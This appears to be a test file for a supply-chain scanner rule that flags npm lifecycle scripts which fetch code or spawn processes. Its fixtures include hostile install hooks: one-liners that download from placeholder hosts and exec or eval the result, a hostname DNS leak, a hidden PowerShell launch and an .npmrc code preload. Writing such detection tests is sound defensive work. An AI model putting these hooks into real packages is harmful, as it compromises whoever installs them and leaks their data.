import { ruleTest } from '../../testing/rule-tester.js';
import rule from './lifecycle-script-fetch-or-spawn.js';

const pkg = (scripts: Record<string, string>) => JSON.stringify({ name: 'x', scripts }, null, 2);

ruleTest(rule, {
  clean: [
    // A one-liner that downloads and executes is a download-to-shell shape: autorun-pipes-download-to-shell reports it.
    { name: 'inline preinstall python -c urlopen + exec (reported by autorun-pipes-download-to-shell)', files: { 'package.json': pkg({ preinstall: "python3 -c \"import urllib.request as u; exec(u.urlopen('https://cdn.example.invalid/x').read())\"" }) } },
    { name: 'node-gyp', files: { 'node_modules/canvas/package.json': pkg({ install: 'prebuild-install -r napi || node-gyp rebuild' }) } },
    { name: 'husky', files: { 'package.json': pkg({ prepare: 'husky install', postinstall: 'is-ci || husky' }) } },
    { name: 'prisma generate and patch-package', files: { 'package.json': pkg({ postinstall: 'prisma generate && patch-package' }) } },
    { name: 'esbuild install.js (vendored)', files: { 'node_modules/esbuild/package.json': pkg({ postinstall: 'node install.js' }), 'node_modules/esbuild/install.js': '' } },
    { name: 'sharp install check (vendored)', files: { 'node_modules/sharp/package.json': pkg({ install: 'node install/check' }) } },
    { name: 'prepare: plain build chain', files: { 'package.json': pkg({ prepare: 'npm run build', build: 'tsc -p . && vite build', start: 'node server.js' }) } },
    { name: 'core-js inline require', files: { 'node_modules/core-js/package.json': pkg({ postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' }) } },
    { name: 'husky guarded by an inline env check', files: { 'package.json': pkg({ prepare: 'node -e "if (process.env.CI) process.exit(0)" || husky install', postinstall: 'npx only-allow pnpm' }) } },
    { name: 'ordinary .npmrc', files: { '.npmrc': 'registry=https://registry.npmjs.org/\nengine-strict=true\nignore-scripts=false\nscript-shell=bash\n' } },
    { name: 'monorepo install of sub folders', files: { 'package.json': pkg({ install: 'cd frontend && npm install && cd ../backend && npm install' }) } },
    { name: 'start script alone is not an install script', files: { 'package.json': pkg({ start: 'node server/server.js' }) } },
  ],
  flagged: [
    {
      name: 'postinstall → npm run dev → concurrently → server',
      files: { 'package.json': pkg({ postinstall: 'npm run dev', dev: 'concurrently "vite" "node server/server.js"' }) },
      findings: [{ line: 4, evidence: /^npm run dev → /, severity: 'high', confidence: 'high', message: /"postinstall" runs on npm install/ }],
    },
    {
      name: 'prepare → npm run start (vite dev server)',
      files: { 'package.json': pkg({ prepare: 'npm run start', start: 'vite' }) },
      findings: [{ line: 4, evidence: 'npm run start → vite', message: /dev server/ }],
    },
    {
      name: 'DNS leak of the host name',
      files: { 'node_modules/lodashs/package.json': pkg({ preinstall: 'nslookup `hostname`.x.example' }) },
      findings: [{ line: 4, file: 'node_modules/lodashs/package.json', message: /DNS/ }],
    },
    {
      name: 'background process and extra install',
      files: { 'package.json': pkg({ preinstall: 'node update.js &' }), 'pkg2/package.json': pkg({ preinstall: 'node preinstall.js && npm install electron' }) },
      findings: [
        { line: 4, file: 'package.json', message: /background/, severity: 'high' },
        { line: 4, file: 'pkg2/package.json', message: /installs electron/, severity: 'medium' },
      ],
    },
    {
      name: 'powershell and inline network code',
      files: {
        'package.json': pkg({ postinstall: 'powershell -w hidden -c Start-Process x.exe' }),
        'b/package.json': pkg({ install: 'node -e "require(\'https\').get(\'https://x.example/p\',r=>r.pipe(process.stdout))"' }),
      },
      findings: [
        { line: 4, file: 'b/package.json', severity: 'high', confidence: 'medium' },
        { line: 4, file: 'package.json', message: /spawns powershell/ },
      ],
    },
    {
      name: '.npmrc preloading repository code',
      files: { '.npmrc': 'save-exact=true\nnode-options=--require ./.config/env.js\n', '.config/env.js': '' },
      findings: [{ line: 2, evidence: 'node-options=--require ./.config/env.js', severity: 'high', confidence: 'high', message: /preload \.config\/env\.js/ }],
    },
    {
      name: 'root package runs its own script: low only',
      files: { 'package.json': pkg({ postinstall: 'node ./build/postinstall.js --postinstall' }) },
      findings: [{ line: 4, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'inline postinstall that downloads and evals (node -e https.get … eval)',
      files: { 'package.json': pkg({ postinstall: "node -e \"require('https').get('https://cdn.example.invalid/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"" }) },
      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /downloads and executes code/ }],
    },
    {
      name: 'inline postinstall that only prints a URL stays high/medium, not critical',
      files: { 'package.json': pkg({ postinstall: 'node -e "console.log(\'Support us: https://opencollective.com/x\')"' }) },
      findings: [{ line: 4, severity: 'high', confidence: 'medium' }],
    },
  ],
});
